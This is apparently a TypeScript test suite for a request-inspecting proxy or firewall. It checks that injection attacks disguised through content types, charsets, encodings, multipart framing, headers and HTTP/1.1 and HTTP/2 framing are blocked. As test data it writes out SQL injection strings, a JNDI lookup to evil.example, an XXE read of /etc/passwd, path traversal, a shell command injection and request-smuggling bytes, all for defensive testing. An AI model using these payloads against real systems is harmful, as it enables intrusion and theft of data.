// Attempts to have one thing inspected and another one read: by types, charsets, encodings, framing, places that nobody looks at.
import assert from 'node:assert/strict'
import { connect as connectHttp2 } from 'node:http2'
import { after, before, suite, test } from 'node:test'
import { makeAuthority } from '../support/certificates.ts'
import { rawExchange } from '../support/house.ts'
import { startTlsHouse } from '../support/tls.ts'
import { assertRefused, type Guarded, json, multipart, route, sent, startGuarded } from './guarded.ts'

const sql = "1' OR '1'='1' -- "
const lookup = ['$', '{jndi:ldap://evil.example/a}'].join('')
const attack = JSON.stringify({ name: sql })
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le')
const utf16be = (text: string): Buffer => utf16(text).swap16()
const marked = (mark: readonly number[], rest: Buffer): Buffer => Buffer.concat([Buffer.from(mark), rest])
const [utf8Mark, bigMark, littleMark] = [
  [0xef, 0xbb, 0xbf],
  [0xfe, 0xff],
  [0xff, 0xfe],
]
/** What is nearly JSON, with an attack in one member that would be part of a document else. */
const nearlyJson = (end: string): string =>
  `{"about":${JSON.stringify('We had bread for breakfast, and it was good of them to bring us some of it.\n'.repeat(40))},"id":"1 UNION SELECT password FROM users"${end}`

suite('CT3: what is inspected is what is read', () => {
  let house: Guarded
  const closing: (() => unknown)[] = []

  before(async () => {
    const context = { after: (close: () => unknown) => void closing.push(close) } as never
    house = await startGuarded(context, {
      inspection: { injection: 'block' },
      routes: [
        route('/in/:id'),
        route('/in'),
        route('/files', { inspection: { injection: 'off', uploads: { types: ['image/*'] } } }),
        route('/onwards', { forwardAuthorization: true }),
        route('/allowed', { inspection: { injection: { allow: [{ field: 'body /filter/*' }] } } }),
        route('/schema', { body: { type: 'object', properties: { name: { type: 'string' } } } }),
      ],
    })
  })
  after(async () => {
    for (const close of closing.reverse()) await close()
  })

  const bodies: readonly (readonly [how: string, init: RequestInit])[] = [
    ['a type in capitals', sent(attack, 'APPLICATION/JSON; Charset="UTF-8"')],
    ['a type with a rest', sent(attack, 'application/json, text/plain')],
    ['a type with a parameter twice', sent(attack, 'application/json; charset=utf-8; charset=utf-16')],
    ['a type with a suffix', sent(attack, 'application/vnd.evil+json')],
    ['an image with the suffix of JSON', sent(attack, 'image/evil+json')],
    ['SVG', sent('<svg onload="steal()"></svg>', 'image/svg+xml')],
    ['an image that is JSON', sent(attack, 'image/png')],
    ['an image that is JSON behind white space', sent(`\r\n\t ${attack}`, 'image/png')],
    ['a font that is XML', sent(`<a>${sql}</a>`, 'font/woff2')],
    ['a video that is JSON behind a mark', sent(`\ufeff${attack}`, 'video/mp4')],
    ['an unknown type', sent(attack, 'application/evil')],
    [
      'bytes that are JSON with a control character',
      sent(JSON.stringify({ a: '\u007f\u0085', name: sql }), 'application/octet-stream'),
    ],
    [
      'bytes that are JSON with bytes that are no UTF-8',
      sent(Buffer.from(`{"a":"\xff","name":"${sql}"}`, 'latin1'), 'application/octet-stream'),
    ],
    ['no type, and bytes that are no UTF-8', sent(Buffer.from(`a=\xff&name=${sql}`, 'latin1'))],
    ['UTF-16 that JSON cannot be', sent(utf16(attack), 'application/json; charset=utf-16le')],
    [
      'UTF-16 that nobody calls so',
      sent(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(attack)]), 'application/json'),
    ],
    ['text in UTF-16', sent(utf16(sql), 'text/plain; charset=utf-16le')],
    ['text in UTF-7', sent('+ADw-script+AD4-steal()+ADw-/script+AD4-', 'text/plain; charset=utf-7')],
    ['a form that names its charset', sent('_charset_=utf-16&a=b', 'application/x-www-form-urlencoded')],
    ['a form with escapes of another charset', sent("name=1%u0027 OR '1'='1", 'application/x-www-form-urlencoded')],
    [
      'a form whose values are put together',
      sent('id=1%27%20union/*&id=*/select/*&id=*/password/*&id=*/from%20users--', 'application/x-www-form-urlencoded'),
    ],
    ['a part without a name', multipart([{ name: '', body: sql }])],
    [
      'a part with a charset',
      multipart([{ name: 'a', head: 'Content-Type: text/plain; charset=utf-16le\r\n', body: utf16(sql) }]),
    ],
    [
      'a part in base64',
      multipart([
        { name: 'a', head: 'Content-Transfer-Encoding: base64\r\n', body: Buffer.from(sql).toString('base64') },
      ]),
    ],
    ['a multipart of another kind', sent(`--b\r\n\r\n${sql}\r\n--b--`, 'multipart/mixed; boundary=b')],
    [
      'a part before the first boundary',
      sent(
        `${attack}\r\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--b--`,
        'multipart/form-data; boundary=b',
      ),
    ],
    ['JSON three strings deep', json({ a: JSON.stringify({ b: JSON.stringify({ c: sql }) }) })],
    ['a string in base64', json({ a: Buffer.from(sql).toString('base64') })],
    ['a name that pollutes', json('{"__proto__":{"isAdmin":true}}')],
    ['an external entity', sent('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'application/xml')],
    ['text in UTF-16 that does not say which', sent(utf16be(sql), 'text/plain; charset=utf-16')],
    [
      'text with the mark of another charset',
      sent(marked(bigMark as number[], utf16be(sql)), 'text/plain; charset=utf-16le'),
    ],
    [
      'bytes that are JSON with a mark, and with bytes that are no UTF-8',
      sent(
        marked(utf8Mark as number[], Buffer.from(`{"a":"\xff","name":"${sql}"}`, 'latin1')),
        'application/octet-stream',
      ),
    ],
    ['an image that is XML in UTF-16', sent(marked(littleMark as number[], utf16(`<a>${sql}</a>`)), 'image/png')],
    ['an image that is XML in UTF-16, without a mark', sent(utf16be(`<a>${sql}</a>`), 'image/png')],
    ['JSON that calls itself a form', sent(attack, 'application/x-www-form-urlencoded')],
    ['JSON with a member twice, that calls itself text', sent(nearlyJson(',"a":1,"a":2}'), 'text/plain')],
    ['JSON with something behind it, that calls itself text', sent(nearlyJson('}x'), 'text/plain')],
    [
      'JSON that calls itself a form, with a member twice',
      sent(nearlyJson(',"a":1,"a":2}'), 'application/x-www-form-urlencoded'),
    ],
    ['a string of nearly JSON', json({ payload: nearlyJson(',"a":1,"a":2}') })],
    [
      'a form that calls itself text and begins with `&`',
      sent("&id=1'+UNION+SELECT+password+FROM+users", 'text/plain'),
    ],
    ['a file without a name, which is a value to some readers', multipart([{ name: 'a', filename: '', body: sql }])],
    [
      'a form of parts that names its charset',
      multipart([
        { name: '_charset_', body: 'utf-7' },
        { name: 'a', body: 'b' },
      ]),
    ],
    [
      'a form of parts in another charset',
      sent(
        '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--b--',
        'multipart/form-data; boundary=b; charset=utf-7',
      ),
    ],
    ['XML in UTF-16', sent(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(`<a>${sql}</a>`)]), 'application/xml')],
  ]
  for (const [how, init] of bodies)
    test(`an attack is refused in ${how}`, async () => {
      const { status, seen, problem } = await house.ask('/in', init)
      assert.ok([400, 403, 422].includes(status), `${status} ${JSON.stringify(problem)}`)
      assert.ok(seen === undefined, 'nothing reaches the upstream')
    })

  const heads: readonly (readonly [how: string, path: string, headers?: Record<string, string>])[] = [
    ['an encoded slash in a parameter of the path', '/in/..%2f..%2fetc%2fpasswd'],
    ['a backslash in a parameter of the path', '/in/..%5c..%5cetc%5cpasswd'],
    ['a parameter of the path, encoded twice', `/in/${encodeURIComponent(encodeURIComponent(sql))}`],
    ['the name of a parameter', `/in?${encodeURIComponent('user[$ne]')}=1`],
    ['JSON in a query', `/in?filter=${encodeURIComponent('{"name":{"$ne":null}}')}`],
    ['a field that browsers alone write', '/in', { 'sec-ch-ua-platform': lookup }],
    ['an entity tag', '/in', { 'if-none-match': lookup }],
    ['a language', '/in', { 'accept-language': "en' OR '1'='1' -- " }],
    ['an address that a proxy would write', '/in', { 'x-forwarded-for': "127.0.0.1' OR '1'='1' -- " }],
    ['another method than the one that is asked', '/in', { 'x-http-method-override': 'DELETE' }],
    ['a credential that goes on', '/onwards', { authorization: lookup }],
    ['a credential behind its scheme', '/onwards', { authorization: "Basic x' OR '1'='1' -- " }],
    ['a key', '/onwards', { 'x-api-key': lookup }],
    ['a signature', '/in', { signature: lookup }],
    ['what a signature is over', '/in', { 'signature-input': lookup }],
    ['a digest', '/in', { 'content-digest': lookup }],
    ['a field that begins as those of browsers', '/in', { 'sec-any': '1 UNION SELECT password FROM users' }],
    ['a range', '/in', { range: '../../../../etc/passwd' }],
    ['an entity tag that is a command', '/in', { 'if-none-match': '; cat /etc/passwd' }],
    ['a list of types', '/in', { accept: '../../../../etc/passwd' }],
  ]
  for (const [how, path, headers = {}] of heads)
    test(`an attack is refused in ${how}`, async () => {
      const { status, seen, problem } = await house.ask(path, { headers })
      assert.ok([400, 403].includes(status), `${status} ${JSON.stringify(problem)}`)
      assert.ok(seen === undefined, 'nothing reaches the upstream')
    })

  test('what browsers and clients write by rule passes', async () => {
    const { status, text } = await house.ask('/in', {
      headers: {
        'sec-ch-ua': '"Not)A;Brand";v="8", "Chromium";v="138", "/Not_A Brand?";v="24"',
        'sec-ch-ua-platform': '"macOS"',
        'if-none-match': 'W/"a1b2-c3==", "x:y"',
        'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT',
        'accept-language': 'de-CH,de;q=0.9,en;q=0.8',
        'user-agent':
          'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
        referer: 'https://www.example.com/search?q=O%27Brien+%26+sons&page=2#top',
        traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
        authorization:
          'Digest username="ada", realm="a@b.example", uri="/in", nonce="7ypf/xlj9XXwf", nc=00000001, qop=auth',
        'signature-input': 'sig1=("@method" "@authority" "content-digest");created=1618884473;keyid="test-key"',
        signature:
          'sig1=:d2pmTvmbncD3xQm8E9ZV2828BjQWGgiwAaw5bAkgibUopemLJcWDy/lkbbHAve4cRAtx31Iq786U7it++wgGxbtRxf8Udx7zFZsckzXaJMkA7ChG52eSkFxykJeNqsrWH5S+oxNFlD4dzVuwe8DhTSja8xxbR==:',
        'content-digest': 'sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:',
        range: 'bytes=0-499, 1000-1499',
        accept: 'text/html, application/xml;q=0.9, */*;q=0.8',
      },
    })
    assert.equal(status, 200, text)
    const drawing = sent(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><style>.a{fill:red}</style><path class="a" d="M0 0h9"/></svg>',
      'image/svg+xml',
    )
    assert.deepEqual((await house.ask('/in', drawing)).seen?.body, drawing.body)
    const image = sent(Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]), 'image/png')
    assert.deepEqual((await house.ask('/in', image)).seen?.body, image.body)
  })

  test('what is allowed in one field is refused in every other, wherever it came first', async () => {
    const where = { $where: 1 }
    assert.equal((await house.ask('/allowed', json({ filter: where }))).status, 200)
    assertRefused(await house.ask('/allowed', json({ filter: where, other: where })), 403, 'injection-detected')
    assertRefused(await house.ask('/allowed?$where=1', json({ filter: where })), 403, 'injection-detected')
  })

  test('CT7: a part of a form that is a file to some readers is checked as one, also without the name of a file', async () => {
    const part = (type: string, body = '#!/bin/sh\nls'): RequestInit =>
      multipart([{ name: 'a', head: `Content-Type: ${type}\r\n`, body }])
    assertRefused(await house.ask('/files', part('application/octet-stream')), 422, 'upload-refused')
    assertRefused(await house.ask('/files', part('image/png')), 422, 'upload-refused')
    for (const type of ['text/plain', 'application/json', 'application/vnd.a+json'])
      assert.equal((await house.ask('/files', part(type, '{}'))).status, 200, type)
  })

  const wires: readonly (readonly [how: string, bytes: string])[] = [
    [
      'a body of GET',
      `GET /in HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${attack.length}\r\n\r\n${attack}`,
    ],
    [
      'a body in chunks',
      `POST /in HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n${attack.slice(0, 5)}\r\n${(attack.length - 5).toString(16)}\r\n${attack.slice(5)}\r\n0\r\n\r\n`,
    ],
    [
      'two types',
      `POST /in HTTP/1.1\r\nHost: a\r\nContent-Type: image/png\r\nContent-Type: application/json\r\nContent-Length: ${attack.length}\r\n\r\n${attack}`,
    ],
    [
      'two lengths',
      `POST /in HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: ${attack.length}\r\n\r\n${attack}`,
    ],
    [
      'a transfer coding that is not undone',
      `POST /in HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n`,
    ],
    [
      'a content coding in two lines',
      `POST /in HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Encoding: identity\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}`,
    ],
    [
      '100-continue',
      `POST /in HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Type: application/json\r\nContent-Length: ${attack.length}\r\n\r\n${attack}`,
    ],
  ]
  for (const [how, bytes] of wires)
    test(`an attack is refused in ${how}`, async () => {
      const before = house.reached.length
      const answer = await rawExchange(house.port, bytes)
      assert.match(answer, /HTTP\/1\.1 (?:4\d\d|501) /)
      assert.equal(house.reached.length, before, answer)
    })

  test('what stands in trailers goes no further', async () => {
    const answer = await rawExchange(
      house.port,
      `POST /in HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Evil\r\n\r\n2\r\n{}\r\n0\r\nX-Evil: ${sql}\r\n\r\n`,
    )
    if (answer.includes(' 200 ')) assert.equal(house.reached.at(-1)?.headers['x-evil'], undefined)
    else assert.match(answer, /HTTP\/1\.1 4/)
  })

  test('a mark before JSON is no way around its schema, nor is a name that differs by case', async () => {
    for (const body of [`\ufeff${attack}`, '{"name":"a","name":"b"}', '{"name":"a"}x'])
      assert.ok([400, 403].includes((await house.ask('/schema', sent(body, 'application/json'))).status), body)
    for (const type of ['text/json', 'application/jsonp', 'text/plain', 'application/json;charset=utf-16'])
      assertRefused(await house.ask('/schema', sent('{"name":"a"}', type)), 415, 'media-type-unsupported')
  })
})

test('CT3: over HTTP/2 requests are looked into alike', async (context) => {
  const authority = await makeAuthority()
  const house = await startTlsHouse(context, authority, {
    config: { inspection: { injection: 'block' }, routes: [route('/in')] },
  })
  const client = connectHttp2(house.url, { ca: authority.cert })
  context.after(() => client.close())
  const ask = (headers: Record<string, string>, body?: string): Promise<string> =>
    new Promise((resolve, reject) => {
      const stream = client.request({ ':path': '/in', ...headers }, { endStream: body === undefined })
      let text = ''
      let status = ''
      stream.on('response', (said) => (status = String(said[':status'])))
      stream.on('data', (chunk: Buffer) => (text += chunk.toString()))
      stream.on('end', () => resolve(`${status} ${text}`))
      stream.on('error', reject)
      if (body !== undefined) stream.end(body)
    })
  const type = { 'content-type': 'application/json' }
  assert.match(await ask({ ':method': 'POST', ...type }, attack), /^403 .*injection-detected/)
  assert.match(await ask({ ':method': 'GET', cookie: `a=${encodeURIComponent(sql)}` }), /^403 /)
  assert.match(await ask({ ':path': `/in?q=${encodeURIComponent(sql)}` }), /^403 /)
  assert.match(await ask({ ':method': 'POST', 'content-type': 'image/png' }, attack), /^422 .*not-inspectable/)
  assert.match(await ask({ ':method': 'POST', 'content-type': 'image/png' }, '\x89PNG'), /^200 /)
  assert.match(await ask({ ':method': 'POST', ...type }, JSON.stringify({ name: "O'Brien" })), /^200 .*O'Brien/)
})
